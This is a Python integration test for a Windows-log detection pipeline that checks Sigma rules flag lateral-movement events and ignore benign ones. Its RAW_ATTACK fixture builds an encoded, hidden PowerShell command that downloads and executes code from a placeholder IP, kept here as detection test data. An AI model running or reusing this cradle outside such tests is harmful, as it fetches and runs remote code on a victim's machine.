"""End to end: Windows event JSON through Kafka into the analyzer; Sigma rules flag the attack, not the background.

Two ways in, as users run it: `secustream ingest --format windows FILE` (normalised at ingest; a bad line
goes to the DLQ) and raw lines a shipper publishes with the `x-secustream-format: windows` header
(normalised in the analyzer; a bad one goes to the DLQ with the normaliser's reason).
"""

from __future__ import annotations

import base64
import json
import os
import re
import subprocess
import sys
from pathlib import Path

from confluent_kafka import Producer

from secustream.messaging import headers as h
from secustream.normalizers import normalize_windows

from .pipeline_helpers import make_settings, read_topic, rows, running_worker, wait_for

LOG = Path(__file__).parents[1] / "data" / "windows" / "lateral_movement.jsonl"
LINES = [line for line in LOG.read_text().splitlines() if line.strip()]

# line index → (Sigma rule that must fire, MITRE ids the verdict must carry, acceptable risk levels)
ATTACKS = {
    0: ("sigma:win-lsass-memory-access", {"T1003.001"}, {"critical"}),
    1: ("sigma:win-pass-the-hash-logon", {"T1550.002"}, {"high", "critical"}),
    2: ("sigma:win-suspicious-service-installed", {"T1569.002", "T1021.002", "T1543.003"}, {"high", "critical"}),
    3: ("sigma:win-psexec-remote-execution", {"T1569.002", "T1021.002"}, {"high", "critical"}),
}
BENIGN = range(4, 16)
CRADLE = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"
                          .encode("utf-16le")).decode()
RAW_ATTACK = json.dumps({
    "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon",
    "Computer": "WS042.corp.example", "TimeCreated": "2026-03-02T11:05:00Z",
    "EventData": {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                  "CommandLine": f"powershell.exe -nop -w hidden -enc {CRADLE}", "User": "CORP\\alice"}})
RAW_BROKEN = '{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational"}'


def test_windows_attack_flagged_by_sigma_background_quiet(kafka_bootstrap, topics, pg_url, redis_url):
    settings = make_settings(kafka_bootstrap, topics, pg_url, redis_url, MODEL_ENABLED=False, LLM_ENABLED=False)
    env = dict(os.environ, KAFKA_SERVER=kafka_bootstrap, KAFKA_TOPIC=topics["events"], KAFKA_DLQ_TOPIC=topics["dlq"])
    proc = subprocess.run([sys.executable, "-m", "secustream.cli", "ingest", "--format", "windows", str(LOG)],
                          env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    summary = re.search(r"read (\d+) lines: published (\d+) events, rejected (\d+)", proc.stdout)
    assert summary and tuple(map(int, summary.groups())) == (17, 16, 1), proc.stdout

    producer = Producer({"bootstrap.servers": kafka_bootstrap})
    for raw in (RAW_ATTACK, RAW_BROKEN):
        producer.produce(topics["events"], raw.encode(), headers=[(h.SOURCE_FORMAT, b"windows")])
    assert producer.flush(30) == 0

    with running_worker(settings) as worker:
        consumed = worker.metrics.consumed._value
        wait_for(lambda: consumed.get() >= 18, 90, "every message consumed")

    dead = read_topic(kafka_bootstrap, topics["dlq"], 2)
    reasons = sorted(dict(m.headers())[h.ERROR].decode() for m in dead)
    assert len(reasons) == 2
    assert reasons[0] == "not a Windows event: EventID 'not-a-number' is not an integer"  # from ingest
    assert reasons[1].startswith("windows normaliser: Windows event without a timestamp")  # from the analyzer

    verdicts = {str(r[0]): r[1:] for r in rows(pg_url, """
        select e.id, v.risk_level, v.rule_ids::text, v.mitre_ids::text, v.tier
        from events e join verdicts v on v.event_id = e.id""")}
    assert len(verdicts) == 17  # 16 ingested + the raw attack normalised by the analyzer

    for index, (rule_id, mitre, levels) in ATTACKS.items():
        risk, rule_ids, mitre_ids, tier = verdicts[str(normalize_windows(LINES[index]).event_id)]
        assert rule_id in json.loads(rule_ids), (index, rule_ids)
        assert mitre <= set(json.loads(mitre_ids)), (index, mitre_ids)
        assert risk in levels and tier == "rules", (index, risk)

    risk, rule_ids, mitre_ids, _ = verdicts[str(normalize_windows(RAW_ATTACK).event_id)]
    assert risk == "critical" and "sigma:win-powershell-encoded-download-cradle" in json.loads(rule_ids)
    assert "T1059.001" in json.loads(mitre_ids)

    for index in BENIGN:
        risk, rule_ids, _, _ = verdicts[str(normalize_windows(LINES[index]).event_id)]
        assert risk not in ("high", "critical") and not any(r.startswith("sigma:") for r in json.loads(rule_ids)), \
            (index, risk, rule_ids)
